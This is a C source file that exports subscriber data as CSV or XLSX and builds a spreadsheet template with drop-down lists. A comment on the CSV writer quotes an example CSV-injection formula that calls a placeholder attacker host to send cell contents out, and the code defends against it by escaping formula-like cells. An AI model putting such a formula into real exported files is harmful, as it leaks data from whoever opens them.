/* export.c — see export.h. */
#include "export.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <xlsxwriter.h>
#include "core/countries.h"
#include "io/columns.h"

#define CSV_BUFFER (64 * 1024)
#define SHEET_NAME_MAX 28   /* Excel allows 31; " 99" fits after it */

struct export_file {
    export_format f;
    int fd;                        /* the temporary file; -1 once handed over or released */
    char *path;                    /* XLSX: still linked until the workbook is written */
    const export_column *cols;
    int ncols;
    bool failed;
    /* CSV */
    FILE *out;
    char sep;
    /* XLSX */
    lxw_workbook *wb;
    lxw_worksheet *ws;
    lxw_format *bold;
    const char *sheet;
    int sheets;                    /* worksheets of rows so far */
    lxw_row_t row;                 /* next row on ws */
    /* Text (export_text_begin): what the caller writes, handed to out a chunk at a time. */
    buf *text;
};

bool export_format_parse(const char *s, export_format *out) {
    if (s && !strcmp(s, "csv")) *out = EXPORT_CSV;
    else if (s && !strcmp(s, "xlsx")) *out = EXPORT_XLSX;
    else return false;
    return true;
}

const char *export_format_name(export_format f) { return f == EXPORT_XLSX ? "xlsx" : "csv"; }

const char *export_content_type(export_format f) {
    return f == EXPORT_XLSX ? "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
                            : "text/csv; charset=utf-8";
}

static const char *temp_dir(void) {
    const char *d = secure_getenv("TMPDIR");
    return d && *d == '/' ? d : P_tmpdir;
}

/* A new private (0600) file in the temporary directory; its name in *path. */
static int temp_file(arena *a, char **path) {
    *path = arena_printf(a, "%s/openseat-export-XXXXXX", temp_dir());
    return mkostemp(*path, O_CLOEXEC);
}

/* ---- CSV ---- */

/* A spreadsheet opening a CSV file takes a cell that starts with '=', '+', '-' or '@' for a
 * formula, and some strip a leading tab or carriage return first and then do the same. An
 * exported name or reference such as =HYPERLINK("http://evil.example?"&A1,"Click") would
 * then run in the admin's spreadsheet, sending data away or worse ("CSV injection"). A
 * leading apostrophe makes every spreadsheet show the text as it was typed instead. XLSX
 * needs none of this: its cells are typed, and a string cell is never evaluated. */
static bool formula_like(const char *s) { return *s && strchr("=+-@\t\r", *s); }

static void csv_cell(export_file *x, const char *s, bool last) {
    if (!s) s = "";
    bool quote = strchr(s, x->sep) || strpbrk(s, "\"\r\n");
    if (quote) putc('"', x->out);
    if (formula_like(s)) putc('\'', x->out);
    /* RFC 4180: a quote inside (which made the field a quoted one) is doubled. */
    for (const char *q; (q = strchr(s, '"')); s = q + 1) {
        fwrite(s, 1, (size_t)(q - s) + 1, x->out);
        putc('"', x->out);
    }
    fputs(s, x->out);
    if (quote) putc('"', x->out);
    fputs(last ? "\r\n" : (x->sep == ';' ? ";" : ","), x->out);
}

static os_err csv_row(export_file *x, const char *const *cells) {
    for (int i = 0; i < x->ncols; i++) csv_cell(x, cells[i], i == x->ncols - 1);
    return ferror(x->out) ? OS_ERR_IO : OS_OK;
}

/* ---- XLSX ---- */

static os_err xlsx_sheet(export_file *x) {
    char name[64];
    if (++x->sheets == 1) snprintf(name, sizeof name, "%s", x->sheet);
    else snprintf(name, sizeof name, "%s %d", x->sheet, x->sheets);
    x->ws = workbook_add_worksheet(x->wb, name);
    if (!x->ws) return OS_ERR_INTERNAL;
    for (int i = 0; i < x->ncols; i++)
        if (worksheet_set_column(x->ws, (lxw_col_t)i, (lxw_col_t)i, x->cols[i].width, NULL)) return OS_ERR_INTERNAL;
    worksheet_freeze_panes(x->ws, 1, 0);
    for (int i = 0; i < x->ncols; i++)
        if (worksheet_write_string(x->ws, 0, (lxw_col_t)i, x->cols[i].header, x->bold)) return OS_ERR_INTERNAL;
    x->row = 1;
    return OS_OK;
}

static os_err xlsx_row(export_file *x, const char *const *cells) {
    if (x->row >= LXW_ROW_MAX) {
        os_err e = xlsx_sheet(x);
        if (e) return e;
    }
    for (int i = 0; i < x->ncols; i++)
        if (cells[i] && *cells[i] && worksheet_write_string(x->ws, x->row, (lxw_col_t)i, cells[i], NULL))
            return OS_ERR_IO;
    x->row++;
    return OS_OK;
}

/* ---- the file ---- */

static void release(export_file *x) {
    if (x->out) fclose(x->out);
    x->out = NULL;
    if (x->wb) {
        /* libxlsxwriter has no "abandon": closing writes the file, which is then removed. */
        workbook_close(x->wb);
        x->wb = NULL;
    }
    if (x->path) unlink(x->path);
    x->path = NULL;
    if (x->fd >= 0) close(x->fd);
    x->fd = -1;
}

/* Registered before the file exists: a request that runs out of memory between
 * export_begin and export_end (core/arena.h) leaves no descriptor, stdio buffer or
 * workbook behind. Harmless after export_end or export_discard. */
static void release_cb(void *ud) { release(ud); }

static export_file *file_new(arena *a) {
    export_file *x = arena_alloc(a, sizeof *x);
    x->fd = -1;
    arena_defer(a, release_cb, x);
    return x;
}

/* A text file written through stdio: the temporary file's name is dropped (nobody needs it:
 * the descriptor is the file from here on) and a buffered stream opened on a copy of the
 * descriptor. False, with x released, when that fails. */
static bool open_stream(export_file *x) {
    unlink(x->path);
    x->path = NULL;
    int dup_fd = dup(x->fd);
    x->out = dup_fd < 0 ? NULL : fdopen(dup_fd, "w");
    if (!x->out) {
        if (dup_fd >= 0) close(dup_fd);
        release(x);
        return false;
    }
    setvbuf(x->out, NULL, _IOFBF, CSV_BUFFER);
    return true;
}

os_err export_begin(arena *a, export_format f, const char *lang, const char *sheet, const export_column *cols,
                    int ncols, export_file **out) {
    export_file *x = file_new(a);
    *out = x;
    x->f = f;
    x->cols = cols;
    x->ncols = ncols;
    x->sep = lang && !strcmp(lang, "fr") ? ';' : ',';
    x->sheet = arena_strndup(a, sheet, SHEET_NAME_MAX);
    x->fd = temp_file(a, &x->path);
    if (x->fd < 0) {
        x->path = NULL;
        return OS_ERR_IO;
    }
    os_err e = OS_OK;
    if (f == EXPORT_CSV) {
        if (!open_stream(x)) return OS_ERR_IO;
        fputs("\xEF\xBB\xBF", x->out);
        const char **head = arena_alloc(a, sizeof(char *) * (size_t)(ncols ? ncols : 1));
        for (int i = 0; i < ncols; i++) head[i] = cols[i].header;
        e = csv_row(x, head);
    } else {
        /* libxlsxwriter writes the finished file by name (to the inode mkostemp made, which
         * fd keeps open); its row data meanwhile goes to temporary files of its own in the
         * same directory. */
        lxw_workbook_options opt = {.constant_memory = LXW_TRUE, .tmpdir = arena_strdup(a, temp_dir())};
        x->wb = workbook_new_opt(x->path, &opt);
        if (!x->wb) {
            release(x);
            return OS_ERR_IO;
        }
        x->bold = workbook_add_format(x->wb);
        format_set_bold(x->bold);
        e = xlsx_sheet(x);
    }
    if (e) release(x);
    return e;
}

#define TEXT_CHUNK (64 * 1024)
#define TEXT_PIECE (1024 * 1024)   /* one append (a JSON string, a CSV line) at most */

static bool text_sink(void *ud, const char *data, size_t len) {
    export_file *x = ud;
    return fwrite(data, 1, len, x->out) == len;
}

os_err export_text_begin(arena *a, export_file **out, buf **text) {
    export_file *x = file_new(a);
    *out = x;
    x->f = EXPORT_CSV;
    x->text = arena_alloc(a, sizeof *x->text);
    buf_init_sink(x->text, a, TEXT_CHUNK, TEXT_PIECE, text_sink, x);
    *text = x->text;
    x->fd = temp_file(a, &x->path);
    if (x->fd < 0) {
        x->path = NULL;
        return OS_ERR_IO;
    }
    return open_stream(x) ? OS_OK : OS_ERR_IO;
}

os_err export_row(export_file *x, const char *const *cells) {
    if (x->fd < 0 || x->failed) return OS_ERR_IO;
    os_err e = x->f == EXPORT_CSV ? csv_row(x, cells) : xlsx_row(x, cells);
    if (e) x->failed = true;
    return e;
}

os_err export_end(export_file *x, int *fd, uint64_t *size) {
    if (x->fd < 0 || x->failed) {
        release(x);
        return OS_ERR_IO;
    }
    os_err e = OS_OK;
    /* A text whose writer overflowed (a piece too large, a failed write) is not whole. */
    if (x->text && (!buf_flush(x->text) || x->text->overflow)) e = OS_ERR_IO;
    if (x->out) {
        if (fclose(x->out) && !e) e = OS_ERR_IO;   /* flushes: a full disk shows here */
        x->out = NULL;
    }
    if (x->wb) {
        lxw_error le = workbook_close(x->wb);
        x->wb = NULL;
        if (le != LXW_NO_ERROR) e = OS_ERR_IO;
    }
    struct stat st;
    if (!e && (fstat(x->fd, &st) || lseek(x->fd, 0, SEEK_SET) != 0)) e = OS_ERR_IO;
    if (e) {
        release(x);
        return e;
    }
    if (x->path) unlink(x->path);
    x->path = NULL;
    *fd = x->fd;
    *size = (uint64_t)st.st_size;
    x->fd = -1;
    return OS_OK;
}

void export_discard(export_file *x) {
    if (x) release(x);
}

/* ---- the bulk-add template ---- */

/* "'Lists'!$C$2:$C$250": the values of one column of the lists sheet. */
static char *list_range(arena *a, const char *sheet, int col, int n) {
    return arena_printf(a, "='%s'!$%c$2:$%c$%d", sheet, 'A' + col, 'A' + col, n + 1);
}

/* A drop-down on one column, every row under the header, listing the cells of formula.
 * libxlsxwriter up to 1.1.4 copies a list validation's formula twice and loses the first
 * copy (a leak on every template); it copies a custom-formula one once and writes both
 * alike but for their type. There the range is added as the one and made the other. */
static lxw_error list_validation(lxw_worksheet *ws, lxw_col_t col, lxw_data_validation *v) {
#if LXW_VERSION_ID <= 114
    v->validate = LXW_VALIDATION_TYPE_CUSTOM_FORMULA;
    lxw_error e = worksheet_data_validation_range(ws, 1, col, LXW_ROW_MAX - 1, col, v);
    lxw_data_val_obj *added = NULL, *it;
    STAILQ_FOREACH(it, ws->data_validations, list_pointers) added = it;
    if (!e && added) added->validate = LXW_VALIDATION_TYPE_LIST_FORMULA;
    return e;
#else
    v->validate = LXW_VALIDATION_TYPE_LIST_FORMULA;
    return worksheet_data_validation_range(ws, 1, col, LXW_ROW_MAX - 1, col, v);
#endif
}

static os_err template_lists(arena *a, export_file *x, const char *lang, const char *const *levels, int nlevels,
                             const char *const *languages, int nlanguages) {
    const char *lists = columns_sheet_lists(lang);
    lxw_worksheet *ws = workbook_add_worksheet(x->wb, lists);
    if (!ws) return OS_ERR_INTERNAL;
    /* The lists' columns, and the template column each one feeds. */
    const char *yes_no[] = {columns_yes_no(true, lang), columns_yes_no(false, lang)};
    struct {
        sub_column col;
        const char *const *values;
        int n;
    } l[] = {
        {SUBCOL_LEVEL, levels, nlevels},
        {SUBCOL_DOWNLOADS, yes_no, 2},
        {SUBCOL_COUNTRY, country_codes, COUNTRY_COUNT},
        {SUBCOL_LANGUAGE, languages, nlanguages},
    };
    int nl = (int)(sizeof l / sizeof l[0]), longest = 0;
    for (int k = 0; k < nl; k++) {
        if (l[k].n > longest) longest = l[k].n;
        if (worksheet_set_column(ws, (lxw_col_t)k, (lxw_col_t)k, sub_columns[l[k].col].width, NULL))
            return OS_ERR_INTERNAL;
        if (worksheet_write_string(ws, 0, (lxw_col_t)k, columns_header(l[k].col, lang), x->bold))
            return OS_ERR_INTERNAL;
    }
    worksheet_freeze_panes(ws, 1, 0);
    /* Constant-memory mode takes rows in order: across the lists, one row at a time. */
    for (int i = 0; i < longest; i++)
        for (int k = 0; k < nl; k++)
            if (i < l[k].n && worksheet_write_string(ws, (lxw_row_t)(i + 1), (lxw_col_t)k, l[k].values[i], NULL))
                return OS_ERR_IO;
    /* The drop-downs, on the template's columns. */
    for (int k = 0; k < nl; k++) {
        if (!l[k].n) continue;   /* an agreement without levels: nothing to offer */
        int at = -1;
        for (int i = 0, pos = 0; i < SUBCOL_COUNT; i++) {
            if (sub_columns[i].export_only) continue;
            if (sub_columns[i].id == l[k].col) at = pos;
            pos++;
        }
        bool fr = lang && !strcmp(lang, "fr");
        lxw_data_validation v = {
            .value_formula = list_range(a, lists, k, l[k].n),
            .error_title = arena_strdup(a, columns_header(l[k].col, lang)),   /* the library wants char * */
            .error_message = arena_printf(a, fr ? "Choisissez une valeur de la feuille « %s »."
                                                : "Choose a value listed on the \"%s\" sheet.", lists),
        };
        if (at < 0 || list_validation(x->ws, (lxw_col_t)at, &v))
            return OS_ERR_INTERNAL;
    }
    return OS_OK;
}

os_err export_template(arena *a, export_format f, const char *lang, const char *const *levels, int nlevels,
                       const char *const *languages, int nlanguages, int *fd, uint64_t *size) {
    export_column *cols = arena_alloc(a, sizeof *cols * SUBCOL_COUNT);
    int n = 0;
    for (int i = 0; i < SUBCOL_COUNT; i++)
        if (!sub_columns[i].export_only)
            cols[n++] = (export_column){columns_header(sub_columns[i].id, lang), sub_columns[i].width};
    export_file *x;
    os_err e = export_begin(a, f, lang, columns_sheet_subscribers(lang), cols, n, &x);
    if (e) return e;
    if (f == EXPORT_XLSX && (e = template_lists(a, x, lang, levels, nlevels, languages, nlanguages))) {
        export_discard(x);
        return e;
    }
    return export_end(x, fd, size);
}
